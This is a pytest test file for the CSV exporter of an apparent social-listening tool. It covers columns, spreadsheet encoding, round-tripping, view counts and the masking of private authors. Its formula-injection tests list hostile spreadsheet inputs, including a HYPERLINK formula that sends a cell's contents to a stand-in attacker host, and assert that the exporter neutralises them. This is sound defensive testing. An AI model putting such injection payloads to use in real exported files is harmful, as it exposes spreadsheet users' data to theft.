"""The CSV file: its columns, that spreadsheets open it rightly and safely, and that our own reader gives it back."""

# ruff: noqa: SIM300 (expected == actual, as everywhere in the tests)

from __future__ import annotations

import csv as plain_csv
import io
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from conftest import NOON, TIMEZONE, MakeMention, MakeStore, Save
from hypothesis import example, given, settings
from hypothesis import strategies as st

from listening.export import csv
from listening.models import COLUMNS, REVIEW_COLUMNS, STATUSES, TAGS, Feed, Mention, Span, Verdict
from listening.privacy import Mask
from listening.query import Matcher, parse
from listening.store import Reader, Store, View

HEADER = (
    "id,source,feed,key,url,title,text,author,author_url,author_followers,language,published_at,edited_at,date_from,"
    "collected_at,likes,replies,reposts,views,reply_to,sensitive,topics,matched,own,question,vader,score,tag,"
    "confidence,tagger,story,withdrawn_at,day,machine_tag,reviewed_by,reviewed_at,asks,status,department,note,"
    "answered_by,channel,minutes,answered_at"
)
"""The data dictionary's columns in their order, then the local day, then the review."""

TEXTS = ("id", "source", "feed", "key", "url", "title", "text", "author", "author_url", "language", "reply_to", "story")
REVIEW_TEXTS = {"status", "department", "note", "answered_by", "channel"}


def written(mentions: Iterable[Mention], *, mask: Mask | None = None, **more: Any) -> str:
    """The file, as text; it can be written as UTF-8."""
    file = io.StringIO(newline="")
    csv.write(mentions, file, timezone=more.pop("timezone", TIMEZONE), mask=mask, **more)
    return file.getvalue().encode().decode()


def cells(text: str, *, delimiter: str = ",") -> list[dict[str, str]]:
    """What any other program reads: the cells as they stand there."""
    return list(plain_csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def read(text: str) -> list[dict[str, Any]]:
    """What our own reader gives, from a file opened as it asks for."""
    bytes_ = io.BytesIO(text.encode())
    return list(csv.read(io.TextIOWrapper(bytes_, encoding="utf-8-sig", newline="")))


@pytest.fixture
def full(mention: MakeMention) -> Mention:
    """A mention of which every field is filled."""
    return mention(
        id="m1",
        source="rss",
        feed="Quillhaven Herald",
        key="tag:herald.example,2026:1",
        url="https://herald.example/1?a=b",
        title="A bridge for everybody",
        text="It opened, with music.\nThousands came.",
        author="Ada Brook",
        author_url="https://herald.example/ada",
        author_followers=1_200,
        language="en-US",
        published_at=datetime(2026, 3, 5, 3, 30, tzinfo=UTC),
        edited_at=datetime(2026, 3, 5, 4, 30, 5, tzinfo=UTC),
        date_from="clamped",
        collected_at=datetime(2026, 3, 5, 3, 31, tzinfo=UTC),
        likes=3,
        replies=0,
        reposts=-1,
        views=1_000_000,
        reply_to="tag:herald.example,2026:0",
        sensitive=True,
        topics=("Bridges; and tunnels", "Transit"),
        matched=(
            Span(topic="Transit", field="title", start=2, end=8, words="bridge"),
            Span(topic="Bridges; and tunnels", field="title", start=2, end=8, words="bridge"),
            Span(topic="Transit", field="text", start=16, end=21, words="music"),
        ),
        own=False,
        question=True,
        vader=-0.5423,
        score=-0.25,
        tag="bad",
        confidence=0.75,
        tagger="rules 1; vader 3.3.2",
        story="m0",
        withdrawn_at=datetime(2026, 3, 6, tzinfo=UTC),
        verdict=Verdict(
            entry=7,
            reviewer="Ana Brook",
            at=datetime(2026, 3, 5, 14, 0, tzinfo=UTC),
            machine="neutral",
            tag="bad",
            relevant=True,
            asks=True,
            status="answered",
            department="Public Works",
            note="Rang back; she was glad.",
            answered_by="Ben Hill",
            channel="Telephone",
            minutes=12,
            answered_at=datetime(2026, 3, 5, 16, 30, tzinfo=UTC),
        ),
    )


# --- columns and cells ------------------------------------------------------------------------------------------------


def test_the_columns_are_the_data_dictionary_the_local_day_and_the_review(full: Mention) -> None:
    """In that order, said once more here: what a file had before there were reviews stands where it stood."""
    first = written([full]).split("\r\n")[0]
    assert f"\ufeff{HEADER}" == first
    assert (*COLUMNS, "day", *REVIEW_COLUMNS) == tuple(HEADER.split(","))


def test_every_cell_as_another_program_reads_it(full: Mention) -> None:
    """Times in UTC, numbers as they are, lists side by side with each match once."""
    assert cells(written([full])) == [
        {
            "id": "m1",
            "source": "rss",
            "feed": "Quillhaven Herald",
            "key": "tag:herald.example,2026:1",
            "url": "https://herald.example/1?a=b",
            "title": "A bridge for everybody",
            "text": "It opened, with music.\nThousands came.",
            "author": "Ada Brook",
            "author_url": "https://herald.example/ada",
            "author_followers": "1200",
            "language": "en-US",
            "published_at": "2026-03-05T03:30:00Z",
            "edited_at": "2026-03-05T04:30:05Z",
            "date_from": "clamped",
            "collected_at": "2026-03-05T03:31:00Z",
            "likes": "3",
            "replies": "0",
            "reposts": "-1",
            "views": "1000000",
            "reply_to": "tag:herald.example,2026:0",
            "sensitive": "true",
            "topics": r"Bridges\; and tunnels; Transit",
            "matched": "bridge; music",
            "own": "false",
            "question": "true",
            "vader": "-0.5423",
            "score": "-0.25",
            "tag": "bad",
            "confidence": "0.75",
            "tagger": "rules 1; vader 3.3.2",
            "story": "m0",
            "withdrawn_at": "2026-03-06T00:00:00Z",
            "day": "2026-03-04",
            "machine_tag": "neutral",
            "reviewed_by": "Ana Brook",
            "reviewed_at": "2026-03-05T14:00:00Z",
            "asks": "true",
            "status": "answered",
            "department": "Public Works",
            "note": "Rang back; she was glad.",
            "answered_by": "Ben Hill",
            "channel": "Telephone",
            "minutes": "12",
            "answered_at": "2026-03-05T16:30:00Z",
        }
    ]


def test_missing_is_empty_and_not_zero(mention: MakeMention) -> None:
    """What the source does not say has an empty cell, and comes back as nothing."""
    text = written([mention(tag="unscored", topics=())])
    numbers = ("author_followers", "likes", "replies", "reposts", "views", "vader", "score", "confidence", "question")
    names = (*numbers, "author", "author_url", "language", "reply_to", "story", "edited_at", "withdrawn_at")
    assert {""} == {cells(text)[0][name] for name in names}
    assert {None} == {read(text)[0][name] for name in names}
    assert ([], []) == (read(text)[0]["topics"], read(text)[0]["matched"])


def test_where_nobody_reviewed_the_review_is_empty(mention: MakeMention) -> None:
    """Texts come back as empty ones, all else as nothing."""
    text = written([mention()])
    assert {""} == {cells(text)[0][name] for name in REVIEW_COLUMNS}
    row = read(text)[0]
    assert REVIEW_TEXTS == {name for name in REVIEW_COLUMNS if row[name] == ""}
    assert set(REVIEW_COLUMNS) - REVIEW_TEXTS == {name for name in REVIEW_COLUMNS if row[name] is None}


@pytest.mark.parametrize(
    ("published", "zone", "day"),
    [
        ("2026-03-05T04:59:59", "America/New_York", "2026-03-04"),
        ("2026-03-05T05:00:00", "America/New_York", "2026-03-05"),
        ("2026-03-09T03:59:59", "America/New_York", "2026-03-08"),  # after the clocks were changed
        ("2026-03-05T04:59:59", "Pacific/Auckland", "2026-03-05"),
        ("2026-03-04T12:00:00", "Pacific/Auckland", "2026-03-05"),
    ],
)
def test_the_day_is_the_agencys(published: str, zone: str, day: str, mention: MakeMention) -> None:
    """The one on which the page counts it."""
    one = mention(published_at=datetime.fromisoformat(published).replace(tzinfo=UTC))
    assert day == cells(written([one], timezone=ZoneInfo(zone)))[0]["day"]


def test_no_mentions_are_a_header_alone() -> None:
    """So that a program can still read it."""
    text = written([])
    assert f"\ufeff{HEADER}\r\n" == text
    assert [] == read(text)


def test_it_counts_what_it_wrote(mention: MakeMention) -> None:
    """The number of rows, which the command says."""
    file = io.StringIO(newline="")
    assert 3 == csv.write((mention() for _ in range(3)), file, timezone=TIMEZONE, mask=None)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_any_delimiter_stays_out_of_the_cells(delimiter: str, full: Mention) -> None:
    """With each of them other programs and our own reader find the same cells."""
    odd = replace(full, title="a,b;c\td", text='He said "yes";\r\nshe, too.\t')
    text = written([odd, odd], delimiter=delimiter)
    assert cells(written([odd, odd])) == cells(text, delimiter=delimiter)
    assert read(written([odd, odd])) == read(text)
    assert ("a,b;c\td", 'He said "yes";\r\nshe, too.\t') == (read(text)[1]["title"], read(text)[1]["text"])


def test_excel_and_libreoffice_see_utf_8(mention: MakeMention) -> None:
    """A mark at the very beginning says so; each row ends as Excel ends it."""
    data = written([mention(text="Straße 日本 😀")]).encode()
    assert data.startswith(b"\xef\xbb\xbfid,source,")
    assert 2 == data.count(b"\r\n")
    assert data.endswith(b"\r\n")


def test_a_very_long_cell_comes_back(mention: MakeMention) -> None:
    """Longer than the standard reader takes."""
    text = "x" * 300_000
    assert text == read(written([mention(text=text)]))[0]["text"]


# --- formulas ---------------------------------------------------------------------------------------------------------

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "   =1",
    "\x00=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
    "'=1",
    "''=1",
    "' =1",
    "\tplain",
    "\rplain",
    "@ada thank you",
    "- a list\n- of things",
    "+1 from me",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula(text: str, full: Mention) -> None:
    """In no column that a stranger can fill; the very text comes back from our own reader."""
    span = Span(topic="Transit", field="text", start=0, end=len(text), words=text)
    assert full.verdict is not None
    said = replace(full.verdict, reviewer=text, department=text, note=text, answered_by=text, channel=text)
    odd = replace(full, **dict.fromkeys(TEXTS, text), matched=(span,), topics=(text,), tagger=text, verdict=said)  # type: ignore[arg-type]
    theirs = ("reviewed_by", "department", "note", "answered_by", "channel")
    shown = cells(written([odd]))[0]
    for name in (*TEXTS, "topics", "matched", "tagger", *theirs):
        assert shown[name].startswith("'"), name
    back = read(written([odd]))[0]
    assert {text} == {back[name] for name in (*TEXTS, "tagger", *theirs)}
    assert [text] == back["topics"] == back["matched"]


@pytest.mark.parametrize(
    "text", ["", "plain", "'quoted'", "'", "''", "It’s", "1-1", "a=b", "#tag", "“@ada”", "2026-03-04", " plain", "%"]
)
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    """No mark before it, and none is taken away."""
    assert text == csv.safe(text) == csv.unsafe(text)


def test_numbers_stay_numbers(mention: MakeMention) -> None:
    """Also below zero and very small: a spreadsheet can add them up."""
    one = mention(vader=-0.54, score=1e-07, confidence=0.1, reposts=-12, likes=2**53)
    shown = cells(written([one]))[0]
    assert ("-0.54", "1e-07", "0.1", "-12", "9007199254740992") == tuple(
        shown[name] for name in ("vader", "score", "confidence", "reposts", "likes")
    )


# --- our own reader ---------------------------------------------------------------------------------------------------

ODD = "=+-@＝＠'\"\\,; \t\r\n\x00\x01\x1b\x1f\x85\u2028\u200b\u202e\ufeff\u0301aé日😀"
STRINGS = st.text(st.sampled_from(ODD), max_size=12) | st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
SECONDS = st.integers(631_152_000, 4_102_444_800).map(lambda second: datetime.fromtimestamp(second, UTC))
COUNTS = st.none() | st.integers(-(2**53), 2**53)
FLOATS = st.none() | st.floats(-1, 1)
WORDS = STRINGS.filter(bool)
OPTIONAL = st.none() | WORDS


@st.composite
def reviews(draw: st.DrawFn) -> Verdict:
    """Anything that people may say, each field filled or empty."""
    return Verdict(
        entry=draw(st.integers(1, 2**31)),
        reviewer=draw(WORDS),
        at=draw(SECONDS),
        machine=draw(st.sampled_from(TAGS)),
        tag=draw(st.none() | st.sampled_from(TAGS)),
        relevant=draw(st.none() | st.booleans()),
        asks=draw(st.none() | st.booleans()),
        status=draw(st.sampled_from(STATUSES)),
        department=draw(STRINGS),
        note=draw(STRINGS),
        answered_by=draw(STRINGS),
        channel=draw(STRINGS),
        minutes=draw(COUNTS),
        answered_at=draw(st.none() | SECONDS),
    )


@st.composite
def mentions(draw: st.DrawFn) -> Mention:
    """Any mention at all, each field filled or empty."""
    spans = draw(st.lists(WORDS, max_size=4))
    return Mention(
        id=draw(STRINGS),
        source=draw(STRINGS),
        feed=draw(STRINGS),
        key=draw(STRINGS),
        url=draw(STRINGS),
        title=draw(STRINGS),
        text=draw(STRINGS),
        author=draw(OPTIONAL),
        author_url=draw(OPTIONAL),
        author_followers=draw(COUNTS),
        language=draw(OPTIONAL),
        published_at=draw(SECONDS),
        edited_at=draw(st.none() | SECONDS),
        date_from=draw(st.sampled_from(("source", "clamped", "fetched"))),
        collected_at=draw(SECONDS),
        likes=draw(COUNTS),
        replies=draw(COUNTS),
        reposts=draw(COUNTS),
        views=draw(COUNTS),
        reply_to=draw(OPTIONAL),
        sensitive=draw(st.booleans()),
        topics=tuple(draw(st.lists(WORDS, max_size=4))),
        matched=tuple(Span(topic="t", field="text", start=0, end=len(words), words=words) for words in spans),
        own=draw(st.booleans()),
        question=draw(st.none() | st.booleans()),
        vader=draw(FLOATS),
        score=draw(FLOATS),
        tag=draw(st.sampled_from(TAGS)),
        confidence=draw(FLOATS),
        tagger=draw(STRINGS),
        story=draw(OPTIONAL),
        withdrawn_at=draw(st.none() | SECONDS),
        verdict=draw(st.none() | reviews()),
    )


def as_row(mention: Mention) -> dict[str, Any]:
    """The row that our reader should give for a mention."""
    assert mention.published_at is not None
    return {
        **{name: getattr(mention, name) for name in COLUMNS},
        "topics": list(mention.topics),
        "matched": list(dict.fromkeys(span.words for span in mention.matched)),
        "day": mention.published_at.astimezone(TIMEZONE).date().isoformat(),
        **{
            name: getattr(mention.verdict, said) if mention.verdict else ("" if name in REVIEW_TEXTS else None)
            for name, said in REVIEW_COLUMNS.items()
        },
    }


@settings(max_examples=60)
@given(found=st.lists(mentions(), max_size=3), delimiter=st.sampled_from(",;\t"))
def test_what_was_written_comes_back(found: list[Mention], delimiter: str) -> None:
    """Every field of any mention: line breaks, quotes, control characters, what looks like a formula, and nothing."""
    assert [as_row(one) for one in found] == read(written(found, delimiter=delimiter))


@settings(max_examples=100)
@given(text=STRINGS)
@example(text="'")
@example(text="'\t")
def test_no_cell_begins_like_a_formula(text: str) -> None:
    """Whatever stands before the sign: blanks, control and invisible characters are looked through."""
    cell = csv.safe(text)
    bare = cell.lstrip("".join(map(chr, range(33))) + "\x85\xa0\u2028\u200b\u200c\u200d\u200e\u200f\u2060\ufeff")
    assert not bare.startswith(tuple("=+-@＝＋－＠"))
    assert not cell.startswith(("\t", "\r"))
    assert text == csv.unsafe(cell)


@settings(max_examples=50)
@given(parts=st.lists(st.text(st.sampled_from("a;\\ ,'=\n"), min_size=1, max_size=6), max_size=5))
def test_lists_come_back_whatever_their_parts_hold(parts: list[str], mention: MakeMention) -> None:
    """Semicolons and backslashes in a topic's name are not taken for the end of it."""
    assert parts == read(written([mention(topics=tuple(parts))]))[0]["topics"]


# --- the rows of a view -----------------------------------------------------------------------------------------------

FEEDS = (("Herald", "rss"), ("Quillhaven social", "mastodon"), ("r/quillhaven", "reddit"))
TOPICS = ("transit", "parks")
QUERIES = ("bridge", "bridge -late", "lovely OR ferry", "bus NEAR/1 late", "source:rss late", "raw:Bus")


@pytest.fixture(scope="module")
def filled(new_store: MakeStore, mention: MakeMention, save: Save) -> tuple[Store, list[Mention]]:
    """A store with 300 mentions around a change of the clock, and what is in it."""
    store, random = new_store(), Random(3)
    found = []
    for _ in range(300):
        feed, source = random.choice(FEEDS)
        found.append(
            mention(
                feed=feed,
                source=source,
                text=" ".join(random.choices(("bridge", "ferry", "late", "lovely", "bus", "Bus", "@ada"), k=4)),
                published_at=NOON + timedelta(minutes=random.randrange(7 * 1440)),
                topics=tuple(random.sample(TOPICS, random.choice((1, 2)))),
                tag=random.choice(TAGS),
                own=random.random() < 0.1,
            )
        )
    save(store, *found)
    return store, found


@st.composite
def views(draw: st.DrawFn) -> View:
    hours = st.integers(0, 7 * 24)
    start, end = sorted(NOON + timedelta(hours=draw(hours)) for _ in range(2))
    query = draw(st.none() | st.sampled_from(QUERIES))
    return View(
        start=start.astimezone(draw(st.sampled_from((UTC, TIMEZONE)))),
        end=end,
        topic=draw(st.sampled_from(("", *TOPICS, "nobody"))),
        tag=draw(st.none() | st.sampled_from(TAGS)),
        source=draw(st.none() | st.sampled_from(("rss", "reddit"))),
        feeds=draw(st.none() | st.frozensets(st.sampled_from([feed for feed, _ in FEEDS]))),
        query=None if query is None else parse(query),
    )


def in_view(one: Mention, view: View) -> bool:
    assert one.published_at is not None
    return (
        not one.own
        and view.start <= one.published_at < view.end
        and (not view.topic or view.topic in one.topics)
        and view.tag in (None, one.tag)
        and view.source in (None, one.source)
        and (view.feeds is None or one.feed in view.feeds)
        and (view.query is None or bool(Matcher({"": view.query}).match(one)))
    )


@settings(max_examples=35)
@given(view=views())
def test_a_file_has_exactly_the_rows_that_the_view_counted(view: View, filled: tuple[Store, list[Mention]]) -> None:
    """No more and no others, newest first, and by day and tag the very numbers that the page draws."""
    store, found = filled
    with store.reading() as connection:
        reader = Reader(store, connection)
        rows = read(written(reader.stream(view)))
        assert reader.total(view) == len(rows)
        counted = {(count.feed, count.tag, str(count.day)): count.count for count in reader.counts(view, by_day=True)}
    assert {one.id for one in found if in_view(one, view)} == {row["id"] for row in rows}
    for (feed, tag, day), count in counted.items():
        assert count == sum((row["feed"], row["tag"], row["day"]) == (feed, tag, day) for row in rows)
    times = [row["published_at"] for row in rows]
    assert sorted(times, reverse=True) == times


# --- masks ------------------------------------------------------------------------------------------------------------

PRIVATE = Feed(name="Harbor", source="mastodon")
OUTLET = Feed(name="Quillhaven Herald", source="rss", outlet=True)


def test_private_people_are_masked_and_outlets_are_not(full: Mention, mention: MakeMention) -> None:
    """The row stays and counts; who wrote it does not stand there, and neither does the way to them."""
    private = mention(
        feed="Harbor",
        text="Thank you @bo@harbor.example!",
        author="@ada@harbor.example",
        author_url="https://harbor.example/@ada",
        url="https://harbor.example/@ada/1",
        key="https://harbor.example/users/ada/statuses/1",
        reply_to="https://harbor.example/users/bo/statuses/0",
        matched=(
            Span(topic="transit", field="text", start=11, end=13, words="bo"),
            Span(topic="transit", field="author", start=0, end=4, words="@ada"),
        ),
    )
    text = written([private, full], mask=Mask(feeds=[PRIVATE, OUTLET]))
    masked, outlet = read(text)
    assert ("", "", None, None) == tuple(masked[name] for name in ("url", "key", "reply_to", "author_url"))
    assert "Thank you @•••••••••••••••••!" == masked["text"]
    assert masked["author"].startswith("person-")
    assert ["••"] == masked["matched"]
    told = text.replace(masked["author"], "")  # whose digits are drawn anew in each file and may spell a name
    assert "ada" not in told.replace("Ada Brook", "").replace("herald.example/ada", "")
    assert {**as_row(full), "reviewed_by": None, "note": "", "answered_by": ""} == outlet
    assert private.id == masked["id"]


def test_with_a_mask_the_team_is_not_named_and_its_notes_stay_at_home(full: Mention) -> None:
    """What was decided, where it went and how long it took stands there; who said so and in which words does not."""
    text = written([full], mask=Mask(feeds=[OUTLET]))
    assert not {name for name in ("Ana", "Ben", "Rang") if name in text}
    masked = cells(text)[0]
    assert ("", "", "") == (masked["reviewed_by"], masked["answered_by"], masked["note"])
    assert ("neutral", "bad", "answered", "Public Works", "Telephone", "12") == tuple(
        masked[name] for name in ("machine_tag", "tag", "status", "department", "channel", "minutes")
    )
    assert "Ana Brook" == cells(written([full]))[0]["reviewed_by"]


def test_without_a_mask_handles_stand_as_they_were(mention: MakeMention) -> None:
    """Which the command allows only with a reason."""
    private = mention(author="@ada@harbor.example", text="@bo hello")
    assert [as_row(private)] == read(written([private]))


def test_one_person_is_one_person_within_a_file(mention: MakeMention) -> None:
    """And another in the next, so that two files cannot be joined into a profile."""
    posts = [mention(author=name) for name in ("@ada@harbor.example", "@bo@harbor.example", "@ADA@harbor.example")]
    files = [[row["author"] for row in read(written(posts, mask=Mask(feeds=[PRIVATE])))] for _ in range(2)]
    for authors in files:
        assert authors[0] == authors[2] != authors[1]
    assert set() == set(files[0]) & set(files[1])
